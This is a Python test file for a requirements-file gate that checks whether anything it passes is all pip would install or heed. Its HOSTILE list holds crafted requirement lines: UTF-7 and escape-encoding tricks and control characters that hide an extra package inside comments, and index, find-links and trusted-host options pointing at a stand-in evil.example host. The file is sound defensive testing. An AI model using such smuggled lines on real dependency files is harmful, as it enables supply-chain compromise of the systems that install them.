"""Whatever passes the gate Dependencies is what pip itself takes from the same bytes, and it takes nothing else."""

import logging
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pip._internal.exceptions import PipError
from pip._internal.index.collector import LinkCollector
from pip._internal.index.package_finder import PackageFinder
from pip._internal.models.search_scope import SearchScope
from pip._internal.models.selection_prefs import SelectionPreferences
from pip._internal.network.session import PipSession
from pip._internal.req.constructors import install_req_from_parsed_requirement
from pip._internal.req.req_file import parse_requirements

from lakeward.judgement.gates import Result
from lakeward.judgement.requirement_lines import Requirement, normal, pip_lines
from lakeward.judgement.requirements import DependenciesGate, evaluate
from lakeward.providers.databricks.model_requirements import REQUIREMENTS, Contents, Unfit

# of pip, about itself
pytestmark = pytest.mark.filterwarnings("ignore:pkg_resources is deprecated:DeprecationWarning")

GATE = DependenciesGate(name="supply", pinned=False, deny=())
HOME = "https://home.example/packages"
EVIL = "torch==2.0.0"
HASH = "--hash=sha256:" + "0a" * 32
SOUND = [
    "numpy==1.0\nscipy[a,b]>=1 ; python_version > '3'  # why\n",
    f"numpy==1.0 \\\n  {HASH} \\\n  {HASH}\n    # via x\nscipy==1.0\n",
    "# coding: utf-8\r\nnumpy===1.0\r\n\r\nSci_Py == 1.0+local.1\r\n",
]
HOSTILE = [
    f"# coding: utf-7\nnumpy==1.0\n# +AAo--i http://evil.example+AAo-{EVIL}",
    f"# coding:\r utf-7==1\n# +AAo-{EVIL}",
    f"numpy==1.0\n#\x0c# coding: utf-7\n# +AAo-{EVIL}",
    f"# coding: unicode_escape\nnumpy==1.0 # \\x0a{EVIL}",
    *(f"numpy==1.0 # {sign}{EVIL}" for sign in "\r\x0b\x0c\x1c\x1d\x1e\u2028\u2029"),
    f"numpy==1.0 # \\\n\n{EVIL}",
    f"numpy==1.0 \\\n# \n{EVIL}",
    f"numpy==1.0\n--index-\\\nurl=http://evil.example\n{EVIL}",
    "numpy===x/torch-2.0.0-py3-none-any.whl",
    "numpy==1.0+x.zip",
    "numpy===${EVIL}",
    *(f"numpy==1.0\n{option} http://evil.example" for option in ("-i", "-f", "--index-url", "--extra-index-url")),
    *(f"numpy==1.0\n{option}=http://evil.example" for option in ("--index-url", "--find-links", "--index-u")),
    "-ihttp://evil.example",
    "-fhttp://evil.example",
    "--trusted-host evil.example",
    "--pre",
    "--hash=sha256:00 --pre",
    "numpy @ file:x",
    "./x",
    "-e .",
]
PARTS = [
    *("numpy", "torch", EVIL, "==", "===", "1.0", " ", "\t", "\n", "\r\n", "\r", "\x0b", "\x0c", "\x1c", "\x1f"),
    *("\x85", "\u2028", "\ufeff", "\xe5", "\\", "\\\n", "#", " # ", "# coding: utf-7\n", "# coding=", "+AAo-", "utf-7"),
    *(HASH, f" {HASH}", "-i http://e", " --pre", "-r x", "-", "[a]", "; python_version > '3'", ";", "(", ")", ",", "*"),
    *("@", "http://e/x.whl", "file:x", "/", ".", ".zip", "+x.zip", "+x.tar.lzma", "x.whl", "${HOME}", "'", "--hash"),
]


@pytest.fixture(autouse=True)
def quiet() -> Iterator[None]:
    logging.disable(logging.CRITICAL)
    yield
    logging.disable(logging.NOTSET)


def passed(data: bytes) -> set[str] | None:
    """The packages that the gate lets pass; None where it lets nothing."""
    try:
        files = dict(Contents({REQUIREMENTS: data}).requirements())
    except Unfit:
        return None
    if evaluate(GATE, files).result is not Result.PASS:
        return None
    return {entry.name for entry in pip_lines(files[REQUIREMENTS]) if isinstance(entry, Requirement)}


def taken(data: bytes, folder: Path) -> tuple[set[str], list[str]]:
    """The packages that pip would ask its index for, and whatever else it would take or heed."""
    file = folder / REQUIREMENTS
    file.write_bytes(data)
    session = PipSession()
    collector = LinkCollector(session, SearchScope.create([], [HOME], no_index=False))
    finder = PackageFinder.create(collector, SelectionPreferences(allow_yanked=False))
    names, else_ = set[str](), list[str]()
    try:
        for parsed in parse_requirements(str(file), session, finder):
            found = install_req_from_parsed_requirement(parsed)
            names.add(normal(found.name or ""))
            else_ += [str(found.link)] if found.link else []
    except (PipError, UnicodeError, LookupError):
        pass  # what came before counts: pip of another year may go on
    else_ += [url for url in finder.index_urls if url != HOME] + finder.find_links
    else_ += [*finder.trusted_hosts, *(["--pre"] if finder.allow_all_prereleases else [])]
    return names, else_


@pytest.mark.parametrize("text", SOUND)
def test_pip_takes_all_that_passes(text: str, tmp_path: Path) -> None:
    names = passed(text.encode())
    assert names
    assert taken(text.encode(), tmp_path) == (names, [])


@pytest.mark.parametrize("text", HOSTILE)
def test_what_leads_pip_elsewhere_does_not_pass(text: str) -> None:
    told = passed(text.encode())
    assert told is None or "torch" in told


@given(st.lists(st.sampled_from(PARTS), min_size=1, max_size=8).map("".join))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_pip_takes_nothing_that_did_not_pass(tmp_path: Path, text: str) -> None:
    data = text.encode()
    told = passed(data)
    if told is not None:
        names, else_ = taken(data, tmp_path)
        assert names <= told
        assert else_ == []
